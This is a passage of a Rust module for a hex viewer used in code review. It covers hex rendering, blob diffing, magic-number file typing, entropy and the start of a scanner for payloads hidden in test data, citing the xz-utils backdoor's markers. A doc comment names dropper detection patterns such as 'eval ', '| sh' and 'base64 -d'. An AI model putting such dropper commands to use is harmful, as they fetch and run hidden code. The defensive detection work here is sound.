//! Hex views of binary blobs, in the manner of `hexyl`, plus the analyses a
//! reviewer needs to see what hides in "test data": file type by magic
//! number, Shannon entropy, and a scan for embedded executables, scripts and
//! dropper commands (the xz-utils backdoor hid its stages in binary test
//! files behind markers such as `####Hello####`).
//!
//! Everything here is a pure function over a byte slice. A blob may be
//! 1 GiB, so every function takes a *window* (`&[u8]`) and, where offsets
//! matter, the window's absolute offset in the blob: showing page 10 000
//! costs the same as showing the first. Callers should start windows on a
//! multiple of [`BYTES_PER_ROW`] so rows line up from page to page. A whole
//! blob is scanned in one pass by [`BlobScan`], fed a piece at a time.
//!
//! The text of every rendered line is built from hex digits, printable ASCII
//! and a few drawing glyphs; bytes never reach the terminal raw, so the
//! output holds no control characters whatever the input.

use std::ops::Range;

use super::sanitize::sanitize_line;
use super::theme::Color;
use super::{Span, Style, StyledLine};

/// Bytes shown per row.
pub const BYTES_PER_ROW: usize = 16;

/// Bytes per group within a row (a row has two groups).
const GROUP: usize = 8;

/// Width of the offset column for offsets below 4 GiB.
const OFFSET_WIDTH: usize = 8;

/// Width of one side of a row after the offset: two hex groups, the gap
/// between them and the ASCII panel with its borders.
const SIDE_WIDTH: usize = GROUP * 3 - 1 + 2 + GROUP * 3 - 1 + 2 + 1 + GROUP + 1 + GROUP + 1;

// ---------------------------------------------------------------------------
// Byte classes and palette

/// hexyl's byte categories; each has its own colour and ASCII-panel glyph.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ByteClass {
    /// `0x00`.
    Null,
    /// Visible ASCII, `0x21..=0x7e`.
    AsciiPrintable,
    /// ASCII whitespace: space, `\t`, `\n`, form feed, `\r`.
    AsciiWhitespace,
    /// Any other ASCII byte (control characters and DEL).
    AsciiOther,
    /// `0x80..=0xff`.
    NonAscii,
}

/// The class of one byte, as hexyl decides it.
pub fn classify(b: u8) -> ByteClass {
    if b == 0 {
        ByteClass::Null
    } else if b.is_ascii_graphic() {
        ByteClass::AsciiPrintable
    } else if b.is_ascii_whitespace() {
        ByteClass::AsciiWhitespace
    } else if b.is_ascii() {
        ByteClass::AsciiOther
    } else {
        ByteClass::NonAscii
    }
}

/// The character that stands for a byte in the ASCII panel (hexyl's
/// conventions): the byte itself when printable, a space for a space, `⋄`
/// for NUL, `_` for other whitespace, `•` for other ASCII and `×` for
/// non-ASCII. Never a control character.
pub fn glyph(b: u8) -> char {
    match classify(b) {
        ByteClass::Null => '⋄',
        ByteClass::AsciiPrintable => char::from(b),
        ByteClass::AsciiWhitespace if b == b' ' => ' ',
        ByteClass::AsciiWhitespace => '_',
        ByteClass::AsciiOther => '•',
        ByteClass::NonAscii => '×',
    }
}

/// The styles a hex view draws with.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Palette {
    /// NUL bytes.
    pub null: Style,
    /// Printable ASCII.
    pub printable: Style,
    /// ASCII whitespace.
    pub whitespace: Style,
    /// Other ASCII (control characters, DEL).
    pub other: Style,
    /// Bytes `0x80..=0xff`.
    pub non_ascii: Style,
    /// The offset column.
    pub offset: Style,
    /// Borders of the ASCII panel, the squeeze `*` and the side-by-side
    /// divider.
    pub separator: Style,
    /// Bytes that differ between the old and the new blob.
    pub changed: Style,
    /// Bytes inside a payload [`Finding`].
    pub finding: Style,
}

impl Default for Palette {
    /// hexyl's colours in terms of the 16 terminal colours.
    fn default() -> Self {
        let bright_black = Color::Indexed(8);
        Palette {
            null: Style::fg(bright_black),
            printable: Style::fg(Color::Indexed(6)),
            whitespace: Style::fg(Color::Indexed(2)),
            other: Style::fg(Color::Indexed(5)),
            non_ascii: Style::fg(Color::Indexed(3)),
            offset: Style::fg(bright_black),
            separator: Style::fg(bright_black),
            changed: Style { fg: Some(Color::Indexed(9)), bold: true, reverse: true, ..Style::default() },
            finding: Style { fg: Some(Color::Indexed(13)), bold: true, reverse: true, ..Style::default() },
        }
    }
}

impl Palette {
    /// The style of a byte's class.
    pub fn class_style(&self, class: ByteClass) -> Style {
        match class {
            ByteClass::Null => self.null,
            ByteClass::AsciiPrintable => self.printable,
            ByteClass::AsciiWhitespace => self.whitespace,
            ByteClass::AsciiOther => self.other,
            ByteClass::NonAscii => self.non_ascii,
        }
    }
}

/// A range of absolute blob offsets drawn in a style of its own, instead of
/// the bytes' class colours (a finding, a search hit, a changed region).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Mark {
    /// Absolute offsets in the blob.
    pub range: Range<u64>,
    pub style: Style,
}

// ---------------------------------------------------------------------------
// Rows

/// One line of a hex view.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Row {
    /// Up to [`BYTES_PER_ROW`] bytes starting at absolute `offset`.
    Bytes { offset: u64, bytes: Vec<u8> },
    /// `rows` full rows, starting at absolute `offset`, identical to the row
    /// shown just before (hexyl's `*`).
    Squeezed { offset: u64, rows: u64 },
}

impl Row {
    /// The absolute offset of the row's first byte.
    pub fn offset(&self) -> u64 {
        match self {
            Row::Bytes { offset, .. } | Row::Squeezed { offset, .. } => *offset,
        }
    }

    /// How many blob bytes the row stands for.
    pub fn byte_len(&self) -> u64 {
        match self {
            Row::Bytes { bytes, .. } => bytes.len() as u64,
            Row::Squeezed { rows, .. } => rows.saturating_mul(BYTES_PER_ROW as u64),
        }
    }
}

/// A byte offset as a reader types it: decimal, or hex with `0x`.
pub fn parse_offset(text: &str) -> Option<u64> {
    let text = text.trim();
    match text.strip_prefix("0x").or_else(|| text.strip_prefix("0X")) {
        Some(hex) => u64::from_str_radix(hex, 16).ok(),
        None => text.parse().ok(),
    }
}

/// Splits a window into rows of 16 bytes, the first at `window_offset`.
///
/// With `squeeze`, a run of two or more full rows identical to the row
/// before them becomes one [`Row::Squeezed`] (a single repeat is shown as
/// is: a `*` line would save nothing). Squeezing looks only inside the
/// window, so any page can be built without reading what precedes it.
pub fn rows(window: &[u8], window_offset: u64, squeeze: bool) -> Vec<Row> {
    let mut out = Vec::with_capacity(window.len() / BYTES_PER_ROW + 1);
    let mut last: Option<&[u8]> = None;
    // The run of repeats of `last`: its first offset and length in rows.
    let mut run: Option<(u64, u64)> = None;
    let mut offset = window_offset;
    for chunk in window.chunks(BYTES_PER_ROW) {
        let repeat = squeeze && chunk.len() == BYTES_PER_ROW && last == Some(chunk);
        if repeat {
            run = Some(match run {
                Some((start, n)) => (start, n.saturating_add(1)),
                None => (offset, 1),
            });
        } else {
            flush_run(&mut out, run.take(), last);
            out.push(Row::Bytes { offset, bytes: chunk.to_vec() });
            last = Some(chunk);
        }
        offset = offset.saturating_add(chunk.len() as u64);
    }
    flush_run(&mut out, run, last);
    out
}

fn flush_run(out: &mut Vec<Row>, run: Option<(u64, u64)>, last: Option<&[u8]>) {
    match (run, last) {
        (Some((offset, 1)), Some(bytes)) => out.push(Row::Bytes { offset, bytes: bytes.to_vec() }),
        (Some((offset, rows)), _) => out.push(Row::Squeezed { offset, rows }),
        (None, _) => {}
    }
}

/// Pairs the rows of an old and a new window that start at the same
/// offset, for [`render_side_by_side`]; the shorter side runs out first.
/// Nothing is squeezed, so both sides always show the same offsets.
pub fn paired_rows(old: &[u8], new: &[u8], window_offset: u64) -> Vec<(Option<Row>, Option<Row>)> {
    let mut old_rows = rows(old, window_offset, false).into_iter();
    let mut new_rows = rows(new, window_offset, false).into_iter();
    let mut out = Vec::new();
    loop {
        match (old_rows.next(), new_rows.next()) {
            (None, None) => return out,
            pair => out.push(pair),
        }
    }
}

// ---------------------------------------------------------------------------
// Rendering

/// Appends text to a line, merging it into the last span when the style is
/// the same.
#[derive(Default)]
struct Line {
    spans: Vec<Span>,
    chars: usize,
}

impl Line {
    fn push(&mut self, text: &str, style: Style) {
        if text.is_empty() {
            return;
        }
        self.chars += text.chars().count();
        if let Some(last) = self.spans.last_mut() {
            if last.style == style {
                last.text.push_str(text);
                return;
            }
        }
        self.spans.push(Span::new(text, style));
    }

    fn push_char(&mut self, c: char, style: Style) {
        let mut buf = [0u8; 4];
        self.push(c.encode_utf8(&mut buf), style);
    }

    fn pad_to(&mut self, width: usize) {
        if self.chars < width {
            let pad = " ".repeat(width - self.chars);
            self.push(&pad, Style::default());
        }
    }
}

fn hex_digit(n: u8) -> char {
    char::from_digit(u32::from(n & 0xf), 16).unwrap_or('?')
}

fn offset_text(offset: u64) -> String {
    format!("{offset:0OFFSET_WIDTH$x}")
}

/// Pushes the hex groups and the ASCII panel of up to 16 bytes starting at
/// absolute `offset`; `style_at(absolute offset, byte)` colours each byte.
/// Always exactly [`SIDE_WIDTH`] characters.
fn push_cells(line: &mut Line, offset: u64, bytes: &[u8], palette: &Palette, style_at: &dyn Fn(u64, u8) -> Style) {
    let cells: Vec<Option<(u8, Style)>> =
        (0..BYTES_PER_ROW).map(|i| bytes.get(i).map(|&b| (b, style_at(offset.saturating_add(i as u64), b)))).collect();
    let plain = Style::default();
    for (i, cell) in cells.iter().enumerate() {
        if i == GROUP {
            line.push("  ", plain);
        } else if i > 0 {
            // The space between two bytes of one style takes that style, so
            // a marked run reads as one block.
            let prev = cells.get(i - 1).copied().flatten().map(|(_, s)| s);
            let style = match (prev, cell) {
                (Some(a), Some((_, b))) if a == *b => a,
                _ => plain,
            };
            line.push(" ", style);
        }
        match cell {
            Some((b, style)) => {
                line.push_char(hex_digit(b >> 4), *style);
                line.push_char(hex_digit(*b), *style);
            }
            None => line.push("  ", plain),
        }
    }
    line.push("  ", plain);
    line.push("│", palette.separator);
    for (i, cell) in cells.iter().enumerate() {
        if i == GROUP {
            line.push("│", palette.separator);
        }
        match cell {
            Some((b, style)) => line.push_char(glyph(*b), *style),
            None => line.push(" ", plain),
        }
    }
    line.push("│", palette.separator);
}

fn squeeze_note(rows: u64) -> String {
    let bytes = rows.saturating_mul(BYTES_PER_ROW as u64);
    let plural = if rows == 1 { "" } else { "s" };
    format!("{rows} identical row{plural} ({bytes} bytes)")
}

fn dim() -> Style {
    Style { dim: true, ..Style::default() }
}

/// Renders one row, hexyl-style:
///
/// ```text
/// 00000010  7f 45 4c 46 02 01 01 00  00 00 00 00 00 00 00 00  │•ELF•••⋄│⋄⋄⋄⋄⋄⋄⋄⋄│
/// ```
///
/// The offset has 8 hex digits, more once it needs them; bytes take their
/// class colour unless a [`Mark`] covers them (the last such mark wins).
/// Only the first 16 bytes of a longer row are shown. A squeezed row
/// renders as `*` and a dim count of the rows it hides.
pub fn render_row(row: &Row, palette: &Palette, marks: &[Mark]) -> StyledLine {
    let mut line = Line::default();
    match row {
        Row::Bytes { offset, bytes } => {
            let end = offset.saturating_add(BYTES_PER_ROW as u64);
            let relevant: Vec<&Mark> = marks.iter().filter(|m| m.range.start < end && m.range.end > *offset).collect();
            let style_at = |at: u64, b: u8| {
                relevant
                    .iter()
                    .rev()
                    .find(|m| m.range.contains(&at))
                    .map_or_else(|| palette.class_style(classify(b)), |m| m.style)
            };
            line.push(&offset_text(*offset), palette.offset);
            line.push("  ", Style::default());
            push_cells(&mut line, *offset, bytes, palette, &style_at);
        }
        Row::Squeezed { rows, .. } => {
            line.push("*", palette.separator);
            line.pad_to(OFFSET_WIDTH);
            line.push("  ", Style::default());
            line.push(&squeeze_note(*rows), dim());
        }
    }
    line.spans
}

/// Whether absolute offset `at` lies in one of `ranges` (sorted by start
/// and disjoint, as [`changed_ranges`] returns them).
fn in_sorted_ranges(ranges: &[Range<u64>], at: u64) -> bool {
    let first = ranges.partition_point(|r| r.end <= at);
    ranges.get(first).is_some_and(|r| r.contains(&at))
}

fn push_side(line: &mut Line, row: Option<&Row>, palette: &Palette, changed: &[Range<u64>]) {
    let start = line.chars;
    match row {
        Some(Row::Bytes { offset, bytes }) => {
            let style_at = |at: u64, b: u8| {
                if in_sorted_ranges(changed, at) {
                    palette.changed
                } else {
                    palette.class_style(classify(b))
                }
            };
            push_cells(line, *offset, bytes, palette, &style_at);
        }
        Some(Row::Squeezed { rows, .. }) => {
            line.push("*", palette.separator);
            line.push("  ", Style::default());
            line.push(&squeeze_note(*rows), dim());
        }
        None => {}
    }
    line.pad_to(start + SIDE_WIDTH);
}

/// Renders the same offset of an old and a new blob side by side, old on
/// the left: `offset  <old hex and ASCII>  ┃  <new hex and ASCII>`. A side
/// that is `None` (past the end of its blob) is blank. Bytes whose absolute
/// offset lies in `changed` (sorted and disjoint, as [`changed_ranges`]
/// returns them) are drawn in `palette.changed` on both sides. The offset
/// shown is the old row's, else the new row's; build the pairs with
/// [`paired_rows`] so both sides share it.
pub fn render_side_by_side(
    old_row: Option<&Row>,
    new_row: Option<&Row>,
    palette: &Palette,
    changed: &[Range<u64>],
) -> StyledLine {
    let mut line = Line::default();
    match old_row.or(new_row) {
        Some(row) => line.push(&offset_text(row.offset()), palette.offset),
        None => line.pad_to(OFFSET_WIDTH),
    }
    line.push("  ", Style::default());
    push_side(&mut line, old_row, palette, changed);
    line.push("  ", Style::default());
    line.push("┃", palette.separator);
    line.push("  ", Style::default());
    push_side(&mut line, new_row, palette, changed);
    // The right side's padding is noise at the end of a line.
    if let Some(last) = line.spans.last_mut() {
        if last.style == Style::default() {
            let kept = last.text.trim_end().len();
            last.text.truncate(kept);
        }
    }
    line.spans.retain(|s| !s.text.is_empty());
    line.spans
}

/// The byte positions where `old` and `new` differ, comparing the same
/// offsets, plus the tail by which the longer one exceeds the shorter.
/// Positions count from the start of the slices; see [`changed_ranges_at`]
/// for windows. The ranges are sorted, disjoint and not adjacent.
pub fn changed_ranges(old: &[u8], new: &[u8]) -> Vec<Range<u64>> {
    changed_ranges_at(old, new, 0)
}

/// [`changed_ranges`] for two windows that both start at absolute offset
/// `window_offset`; the ranges are absolute.
pub fn changed_ranges_at(old: &[u8], new: &[u8], window_offset: u64) -> Vec<Range<u64>> {
    const CHUNK: usize = 64;
    let mut out: Vec<Range<u64>> = Vec::new();
    let mut push = |start: usize, end: usize| {
        let start = window_offset.saturating_add(start as u64);
        let end = window_offset.saturating_add(end as u64);
        match out.last_mut() {
            Some(last) if last.end >= start => last.end = last.end.max(end),
            _ => out.push(start..end),
        }
    };
    let common = old.len().min(new.len());
    let mut base = 0;
    for (a, b) in old.chunks(CHUNK).zip(new.chunks(CHUNK)) {
        if a != b {
            let mut run: Option<usize> = None;
            for (i, (x, y)) in a.iter().zip(b).enumerate() {
                match (x != y, run) {
                    (true, None) => run = Some(base + i),
                    (false, Some(start)) => {
                        push(start, base + i);
                        run = None;
                    }
                    _ => {}
                }
            }
            if let Some(start) = run {
                push(start, base + a.len().min(b.len()));
            }
        }
        base += a.len().min(b.len());
    }
    let longest = old.len().max(new.len());
    if longest > common {
        push(common, longest);
    }
    out
}

// ---------------------------------------------------------------------------
// File types

/// A file type recognised by its magic number.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct FileType {
    /// A short stable name: `xz`, `elf`, `macho`, `java-class`, …
    pub name: &'static str,
    /// What a reader would call it.
    pub description: &'static str,
}

const fn ft(name: &'static str, description: &'static str) -> FileType {
    FileType { name, description }
}

/// Names of the executable formats, as [`file_type`] reports them.
const ELF: &str = "elf";
const PE: &str = "pe";
const MZ: &str = "mz";
const MACHO: &str = "macho";
const MACHO_FAT: &str = "macho-fat";

fn u16_at(data: &[u8], at: usize, little: bool) -> Option<u16> {
    let bytes: [u8; 2] = data.get(at..at.checked_add(2)?)?.try_into().ok()?;
    Some(if little { u16::from_le_bytes(bytes) } else { u16::from_be_bytes(bytes) })
}

fn u32_at(data: &[u8], at: usize, little: bool) -> Option<u32> {
    let bytes: [u8; 4] = data.get(at..at.checked_add(4)?)?.try_into().ok()?;
    Some(if little { u32::from_le_bytes(bytes) } else { u32::from_be_bytes(bytes) })
}

fn u64_at(data: &[u8], at: usize, little: bool) -> Option<u64> {
    let bytes: [u8; 8] = data.get(at..at.checked_add(8)?)?.try_into().ok()?;
    Some(if little { u64::from_le_bytes(bytes) } else { u64::from_be_bytes(bytes) })
}

fn bytes_at(data: &[u8], at: usize, pattern: &[u8]) -> bool {
    data.get(at..).is_some_and(|rest| rest.starts_with(pattern))
}

/// The file at offset `at` of `data` starts with a PE image: `MZ`, then an
/// `e_lfanew` that points at `PE\0\0`. Returns `e_lfanew`.
fn pe_header(data: &[u8], at: usize) -> Option<usize> {
    if !bytes_at(data, at, b"MZ") {
        return None;
    }
    let lfanew = usize::try_from(u32_at(data, at.checked_add(0x3c)?, true)?).ok()?;
    if lfanew < 0x40 {
        return None;
    }
    bytes_at(data, at.checked_add(lfanew)?, b"PE\0\0").then_some(lfanew)
}

/// `CAFEBABE` starts both fat Mach-O files and Java classes. A fat file
/// then has a small architecture count; a class file has its version
/// (minor, then major ≥ 45), which read as one big-endian word is ≥ 45.
fn cafebabe_is_fat(data: &[u8], at: usize) -> Option<bool> {
    let next = u32_at(data, at.checked_add(4)?, false)?;
    match next {
        0 => None,
        1..=44 => Some(true),
        _ => Some(false),
    }
}

/// The type of a blob, from its first bytes (pass at least the first 512
/// bytes for tar and a typical PE header; less is fine for the rest).
pub fn file_type(head: &[u8]) -> Option<FileType> {
    let starts = |magic: &[u8]| head.starts_with(magic);
    if starts(b"\xfd7zXZ\0") {
        return Some(ft("xz", "XZ compressed data"));
    }
    if starts(b"\x1f\x8b\x08") {
        return Some(ft("gzip", "gzip compressed data"));
    }
    if starts(b"BZh") && head.get(3).is_some_and(|b| (b'1'..=b'9').contains(b)) {
        return Some(ft("bzip2", "bzip2 compressed data"));
    }
    if starts(b"\x28\xb5\x2f\xfd") {
        return Some(ft("zstd", "Zstandard compressed data"));
    }
    if starts(b"PK\x03\x04") || starts(b"PK\x05\x06") {
        return Some(ft("zip", "Zip archive"));
    }
    if starts(b"7z\xbc\xaf\x27\x1c") {
        return Some(ft("7z", "7-Zip archive"));
    }
    if bytes_at(head, 257, b"ustar") && matches!(head.get(262), Some(0 | b' ')) {
        return Some(ft("tar", "tar archive"));
    }
    if starts(b"\x7fELF") {
        return Some(ft(ELF, "ELF executable, library or object"));
    }
    if starts(b"MZ") {
        return Some(match pe_header(head, 0) {
            Some(_) => ft(PE, "PE executable (Windows)"),
            None => ft(MZ, "DOS MZ executable"),
        });
    }
    if starts(b"\xfe\xed\xfa\xce")
        || starts(b"\xce\xfa\xed\xfe")
        || starts(b"\xfe\xed\xfa\xcf")
        || starts(b"\xcf\xfa\xed\xfe")
    {
        return Some(ft(MACHO, "Mach-O executable"));
    }
    if starts(b"\xca\xfe\xba\xbf") {
        return Some(ft(MACHO_FAT, "Mach-O universal (fat) binary"));
    }
    if starts(b"\xca\xfe\xba\xbe") {
        return match cafebabe_is_fat(head, 0)? {
            true => Some(ft(MACHO_FAT, "Mach-O universal (fat) binary")),
            false => Some(ft("java-class", "Java class file")),
        };
    }
    if starts(b"\x89PNG\r\n\x1a\n") {
        return Some(ft("png", "PNG image"));
    }
    if starts(b"\xff\xd8\xff") {
        return Some(ft("jpeg", "JPEG image"));
    }
    if starts(b"GIF87a") || starts(b"GIF89a") {
        return Some(ft("gif", "GIF image"));
    }
    if starts(b"%PDF-") {
        return Some(ft("pdf", "PDF document"));
    }
    if starts(b"\0asm") {
        return Some(ft("wasm", "WebAssembly module"));
    }
    if starts(b"SQLite format 3\0") {
        return Some(ft("sqlite", "SQLite 3 database"));
    }
    if is_lzma(head) {
        return Some(ft("lzma", "LZMA (lzma_alone) compressed data"));
    }
    None
}

/// The legacy `.lzma` header has no real magic: properties `5D`, a 32-bit
/// dictionary size (`00 00 xx xx` for the usual sizes) and a 64-bit
/// uncompressed size, all ones when unknown. Checked last, and only with
/// a plausible size.
fn is_lzma(head: &[u8]) -> bool {
    if !head.starts_with(b"\x5d\0\0") {
        return false;
    }
    match u64_at(head, 5, true) {
        Some(size) => size == u64::MAX || size < 1 << 40,
        None => false,
    }
}

// ---------------------------------------------------------------------------
// Entropy

/// Shannon entropy in bits per byte, `0.0..=8.0`: 0 for constant (or
/// empty) data, near 8 for compressed or encrypted data.
pub fn entropy(block: &[u8]) -> f32 {
    if block.is_empty() {
        return 0.0;
    }
    let mut counts = [0u64; 256];
    for &b in block {
        if let Some(c) = counts.get_mut(usize::from(b)) {
            *c += 1;
        }
    }
    let n = block.len() as f64;
    let h: f64 = counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = c as f64 / n;
            -p * p.log2()
        })
        .sum();
    if h <= 0.0 {
        0.0
    } else {
        h.min(8.0) as f32
    }
}

/// The entropy of each `block`-sized piece of the window (the last may be
/// shorter). A `block` of 0 is taken as 1.
pub fn entropy_blocks(window: &[u8], block: usize) -> Vec<f32> {
    window.chunks(block.max(1)).map(entropy).collect()
}

/// One bar per value, `▁` for 0 up to `█` for 8 (each bar is one bit of
/// entropy wide; 8 itself is `█`). Values outside 0..=8 are clamped, NaN
/// counts as 0.
pub fn sparkline(values: &[f32]) -> String {
    const BARS: [char; 8] = ['▁', '▂', '▃', '▄', '▅', '▆', '▇', '█'];
    values
        .iter()
        .map(|&v| {
            let v = if v.is_nan() { 0.0 } else { v.clamp(0.0, 8.0) };
            let level = (v as usize).min(BARS.len() - 1);
            BARS.get(level).copied().unwrap_or('▁')
        })
        .collect()
}

// ---------------------------------------------------------------------------
// Payload scan

/// What a [`Finding`] found.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FindingKind {
    /// `\x7fELF` with a valid class, data and version byte.
    ElfHeader,
    /// `MZ` whose `e_lfanew` points at `PE\0\0`.
    PeHeader,
    /// A Mach-O or fat Mach-O header with a known CPU type.
    MachOHeader,
    /// `#!/` (or `#! /`): the start of a script.
    Shebang,
    /// Shell commands typical of droppers (`eval `, `| sh`, `base64 -d`,
    /// …), merged per line.
    ShellCommand,
    /// `####Word####`, the markers the xz-utils backdoor searched its test
    /// files for.
    ScriptMarker,
}

impl FindingKind {
    /// A short human label.
    pub fn label(self) -> &'static str {
        match self {
            FindingKind::ElfHeader => "ELF header",
            FindingKind::PeHeader => "PE header",
            FindingKind::MachOHeader => "Mach-O header",
            FindingKind::Shebang => "shebang",
            FindingKind::ShellCommand => "shell command",
            FindingKind::ScriptMarker => "script marker",
        }
    }

    fn is_executable(self) -> bool {
        matches!(self, FindingKind::ElfHeader | FindingKind::PeHeader | FindingKind::MachOHeader)
    }

    /// Which kind names a merged finding.
    fn rank(self) -> u8 {
        match self {
            FindingKind::ElfHeader | FindingKind::PeHeader | FindingKind::MachOHeader => 3,
            FindingKind::Shebang => 2,
            FindingKind::ScriptMarker => 1,
            FindingKind::ShellCommand => 0,
        }
    }
}

/// Something in a blob that may be a hidden payload.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// Absolute offset in the blob.
    pub offset: u64,
    /// Bytes covered (a header's size, a script line, a marker).
    pub len: u64,
    pub kind: FindingKind,
    /// A description, or a sanitized excerpt of the bytes: printable ASCII
    /// only, other bytes escaped as `\xNN`, `\n`, `\t`, `\r`.
    pub detail: String,
}

impl Finding {
    /// The absolute offsets the finding covers.
    pub fn range(&self) -> Range<u64> {
        self.offset..self.offset.saturating_add(self.len)
    }
}

/// Marks that draw findings in `palette.finding` in [`render_row`].
pub fn finding_marks<'a>(findings: impl IntoIterator<Item = &'a Finding>, palette: &Palette) -> Vec<Mark> {
    findings.into_iter().map(|f| Mark { range: f.range(), style: palette.finding }).collect()
}

/// A finding before merging, in window positions.
struct Raw {
    start: usize,
    end: usize,
    kind: FindingKind,
    detail: String,
    keywords: Vec<&'static str>,
}

impl Raw {
    fn new(start: usize, end: usize, kind: FindingKind, detail: String) -> Raw {
        Raw { start, end, kind, detail, keywords: Vec::new() }
    }
}

/// Longest excerpt, in bytes of the blob.
const EXCERPT_MAX: usize = 120;
/// How far a shell line's excerpt reaches back before the first keyword.
const EXCERPT_BEFORE: usize = 40;
/// Shell commands further apart than this on one line are separate findings.
const SAME_LINE_GAP: usize = 256;

fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

fn is_line_end(b: u8) -> bool {
    matches!(b, b'\n' | b'\r' | 0)
}

/// Bytes made safe to show: printable ASCII as is, everything else escaped.
fn escape_bytes(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len());
    for &b in bytes {
        match b {
            b' '..=b'~' => out.push(char::from(b)),
            b'\n' => out.push_str("\\n"),
            b'\r' => out.push_str("\\r"),
            b'\t' => out.push_str("\\t"),
            _ => {
                out.push_str("\\x");
                out.push(hex_digit(b >> 4));
                out.push(hex_digit(b));
            }
        }
    }
    // Already free of control characters; the shared pass keeps it so.
    sanitize_line(&out)
}

/// The end of the line that starts at or contains `from`, at most
/// `max` bytes on.
fn line_end(window: &[u8], from: usize, max: usize) -> usize {
    let limit = from.saturating_add(max).min(window.len());
    window.get(from..limit).and_then(|rest| rest.iter().position(|&b| is_line_end(b))).map_or(limit, |i| from + i)
}

/// An excerpt of the line around `start..end`, with `…` where cut.
fn line_excerpt(window: &[u8], start: usize, end: usize) -> String {
    let floor = start.saturating_sub(EXCERPT_BEFORE);
    let mut from = start;
    while from > floor && window.get(from - 1).is_some_and(|&b| !is_line_end(b)) {
        from -= 1;
    }
    let to = line_end(window, end, EXCERPT_MAX.saturating_sub(end.saturating_sub(from)).max(16));
    let cut_before = from > 0 && window.get(from - 1).is_some_and(|&b| !is_line_end(b));
    let cut_after = window.get(to).is_some_and(|&b| !is_line_end(b));
    let mut text = String::new();
    if cut_before {
        text.push('…');
    }
    text.push_str(&escape_bytes(window.get(from..to).unwrap_or_default()));
    if cut_after {
        text.push('…');
    }
    text
}

fn elf_machine(machine: u16) -> Option<&'static str> {
    Some(match machine {
        0x03 => "x86",
        0x08 => "MIPS",
        0x14 => "PowerPC",
        0x15 => "PowerPC64",
        0x16 => "S/390",
        0x28 => "ARM",
        0x2b => "SPARC V9",
        0x3e => "x86-64",
        0xb7 => "AArch64",
        0xf3 => "RISC-V",
        0x102 => "LoongArch",
        _ => return None,
    })
}

fn elf_at(window: &[u8], at: usize) -> Option<Raw> {
    if !bytes_at(window, at, b"\x7fELF") {
        return None;
    }
    let class = *window.get(at.checked_add(4)?)?;
    let data = *window.get(at.checked_add(5)?)?;
    let version = *window.get(at.checked_add(6)?)?;
    if !matches!(class, 1 | 2) || !matches!(data, 1 | 2) || version != 1 {
        return None;
    }
    let little = data == 1;
    let mut detail =
        format!("ELF {}-bit {}", if class == 1 { 32 } else { 64 }, if little { "little-endian" } else { "big-endian" });
    if let Some(kind) = u16_at(window, at + 16, little) {
        let kind = match kind {
            1 => "relocatable",
            2 => "executable",
            3 => "shared object",
            4 => "core dump",
            _ => "unknown type",
        };
        detail.push_str(", ");
        detail.push_str(kind);
    }
    if let Some(machine) = u16_at(window, at + 18, little) {
        match elf_machine(machine) {
            Some(name) => detail.push_str(&format!(", {name}")),
            None => detail.push_str(&format!(", machine {machine:#x}")),
        }
    }
    let size = if class == 1 { 52 } else { 64 };
    Some(Raw::new(at, at.saturating_add(size).min(window.len()), FindingKind::ElfHeader, detail))
}

fn pe_at(window: &[u8], at: usize) -> Option<Raw> {
    let lfanew = pe_header(window, at)?;
    let pe = at.checked_add(lfanew)?;
    let machine = match u16_at(window, pe + 4, true) {
        Some(0x14c) => "x86".to_string(),
        Some(0x8664) => "x86-64".to_string(),
        Some(0xaa64) => "ARM64".to_string(),
        Some(0x1c0 | 0x1c4) => "ARM".to_string(),
        Some(other) => format!("machine {other:#x}"),
        None => "machine unknown".to_string(),
    };
    let flavour = match u16_at(window, pe + 24, true) {
        Some(0x10b) => "PE32",
        Some(0x20b) => "PE32+",
        _ => "PE",
    };
    let dll = u16_at(window, pe + 22, true).is_some_and(|c| c & 0x2000 != 0);
    let detail =
        format!("{flavour} {}, {machine}, PE signature at +{lfanew:#x}", if dll { "DLL" } else { "executable" });
    // The DOS header, stub and COFF header.
    let end = pe.saturating_add(24).min(window.len());
    Some(Raw::new(at, end, FindingKind::PeHeader, detail))
}

fn macho_cpu(cpu: u32) -> Option<&'static str> {
    Some(match cpu {
        7 => "x86",
        0x0100_0007 => "x86-64",
        12 => "ARM",
        0x0100_000c => "arm64",
        0x0200_000c => "arm64_32",
        18 => "PowerPC",
        0x0100_0012 => "PowerPC64",
        _ => return None,
    })
}

fn macho_at(window: &[u8], at: usize) -> Option<Raw> {
    let magic = u32_at(window, at, false)?;
    let (bits, little) = match magic {
        0xfeed_face => (32, false),
        0xfeed_facf => (64, false),
        0xcefa_edfe => (32, true),
        0xcffa_edfe => (64, true),
        0xcafe_babe | 0xcafe_babf => {
            // Fat: a small architecture count, then a known CPU type.
            // (A Java class has its version here instead, always >= 45.)
            let count = u32_at(window, at + 4, false)?;
            if !(1..=44).contains(&count) {
                return None;
            }
            let cpu = macho_cpu(u32_at(window, at + 8, false)?)?;
            let entry = if magic == 0xcafe_babf { 32 } else { 20 };
            let len = 8usize.saturating_add((count as usize).saturating_mul(entry));
            let detail = format!("Mach-O universal binary, {count} architecture(s), first {cpu}");
            return Some(Raw::new(at, at.saturating_add(len).min(window.len()), FindingKind::MachOHeader, detail));
        }
        _ => return None,
    };
    let cpu = macho_cpu(u32_at(window, at + 4, little)?)?;
    let file_type = match u32_at(window, at + 12, little)? {
        1 => "object",
        2 => "executable",
        6 => "dynamic library",
        8 => "bundle",
        t @ 3..=12 => return Some(macho_raw(window, at, bits, little, cpu, &format!("file type {t}"))),
        _ => return None,
    };
    Some(macho_raw(window, at, bits, little, cpu, file_type))
}

fn macho_raw(window: &[u8], at: usize, bits: usize, little: bool, cpu: &str, file_type: &str) -> Raw {
    let endian = if little { "little-endian" } else { "big-endian" };
    let detail = format!("Mach-O {bits}-bit {endian} {file_type}, {cpu}");
    let size = if bits == 32 { 28 } else { 32 };
    Raw::new(at, at.saturating_add(size).min(window.len()), FindingKind::MachOHeader, detail)
}

fn is_path_byte(b: u8) -> bool {
